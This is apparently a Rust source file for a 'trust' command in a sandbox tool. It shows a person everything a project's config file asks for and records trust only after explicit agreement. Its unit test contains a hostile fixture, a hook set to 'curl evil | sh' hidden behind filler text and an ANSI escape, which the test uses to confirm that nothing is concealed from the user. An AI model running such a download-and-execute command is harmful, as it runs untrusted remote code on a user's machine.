//! `sandbox-mcp trust`: shows what a project's own file asks for, and trusts it if a person agrees.

use std::io::{BufRead, IsTerminal, Write};
use std::path::{Path, PathBuf};

use anyhow::Context;

use super::Usage;
use crate::config::{
    Effect, Effective, LoadOptions, PROJECT_FILE, Project, Standing, Trust, load, load_for,
    state_dir,
};
use crate::text::{clean, one_line};

#[derive(Debug, clap::Args)]
pub struct TrustArgs {
    /// Folder of the project [default: the current folder]
    workspace: Option<PathBuf>,
    /// Trust it without asking
    #[arg(long, conflicts_with_all = ["revoke", "show"])]
    yes: bool,
    /// End the trust
    #[arg(long, conflicts_with = "show")]
    revoke: bool,
    /// Only show what it asks for and whether it is trusted
    #[arg(long)]
    show: bool,
}

pub fn run(options: &LoadOptions, args: &TrustArgs, out: &mut impl Write) -> anyhow::Result<u8> {
    let workspace = args.workspace.clone().unwrap_or_else(|| PathBuf::from("."));
    let workspace = workspace
        .canonicalize()
        .with_context(|| format!("failed to find the folder {}", workspace.display()))?;
    let trust = Trust::new(&state_dir()?);
    let usage = |error: crate::config::Error| anyhow::Error::new(Usage(error.to_string()));
    let now = load(options).map_err(usage)?;
    let project = Project::find(&workspace, &now.config.workspace.roots);
    if args.revoke {
        let found = project.ok().flatten().map(|project| project.path().to_owned());
        let path = found.unwrap_or_else(|| workspace.join(PROJECT_FILE));
        let was = trust.revoke(&path)?;
        let word = if was { "is no longer trusted" } else { "was not trusted" };
        writeln!(out, "{} {word}", shown(&path))?;
        return Ok(0);
    }
    let project = project.map_err(usage)?.ok_or_else(|| {
        let message = format!("there is no {PROJECT_FILE} in {} or above", shown(&workspace));
        anyhow::Error::new(Usage(format!("{message}; `sandbox-mcp init` writes one")))
    })?;
    // What could not be used is not worth trusting: the same check that a run makes.
    load_for(options, Some(&project), true).map_err(usage)?;
    let standing = trust.standing(&project);
    show(&project, &now, standing, out)?;
    if args.show || standing == Standing::Trusted {
        return Ok(0);
    }
    if !args.yes && !agreed(out)? {
        writeln!(out, "not trusted")?;
        return Ok(1);
    }
    trust.grant(&project).context("failed to record the trust")?;
    writeln!(out, "trusted, until its content changes")?;
    Ok(0)
}

fn show(
    project: &Project,
    now: &Effective,
    standing: Standing,
    out: &mut impl Write,
) -> anyhow::Result<()> {
    let word = match standing {
        Standing::Trusted => "trusted",
        Standing::Changed => "not trusted: it has changed since it was",
        Standing::Unknown => "not trusted",
    };
    writeln!(out, "{} ({word})", shown(project.path()))?;
    let asks = project.asks(&now.config)?;
    if asks.is_empty() {
        writeln!(out, "  it sets nothing")?;
    }
    for (key, value, effect) in asks {
        let mark = match effect {
            Effect::Narrows => "narrows; in force in any case",
            Effect::Asks => "opens or changes; in force only when trusted",
            Effect::Never => "not a project's to set",
        };
        // All of it, line by line: what a person does not see, nobody can have agreed to.
        let value = clean(&value);
        let mut lines = value.lines();
        writeln!(out, "  {} = {}", key.path, lines.next().unwrap_or_default())?;
        for line in lines {
            writeln!(out, "    | {line}")?;
        }
        writeln!(out, "      {mark}: {}", key.meaning)?;
    }
    Ok(())
}

/// Asks at the terminal; without one nobody can agree.
fn agreed(out: &mut impl Write) -> anyhow::Result<bool> {
    if !std::io::stdin().is_terminal() {
        return Err(anyhow::Error::new(Usage(
            "nobody is here to ask; read what is above, and add --yes if you agree".into(),
        )));
    }
    write!(out, "Trust exactly this content? [y/N] ")?;
    out.flush()?;
    let mut answer = String::new();
    std::io::stdin().lock().read_line(&mut answer)?;
    Ok(["y", "yes"].contains(&answer.trim().to_ascii_lowercase().as_str()))
}

fn shown(path: &Path) -> String {
    one_line(&path.to_string_lossy(), 500)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_of_what_is_trusted_is_hidden() {
        let words = "a harmless word ".repeat(200);
        let lines = format!("# {words}\ncurl evil | sh\n\u{1b}[8mhidden");
        let value = toml::Value::String(lines.clone());
        let project = Project::of(&format!("[hooks]\nbefore_start = {value}\n"));
        let now = load(&LoadOptions::default()).expect("the defaults");
        let mut out = Vec::new();
        show(&project, &now, Standing::Unknown, &mut out).expect("shown");
        let out = String::from_utf8(out).expect("text");
        assert!(out.contains(words.trim()), "{out}");
        assert!(out.lines().any(|line| line == "    | curl evil | sh"), "{out}");
        assert!(out.contains("hidden") && !out.contains('\u{1b}'), "{out}");
    }
}
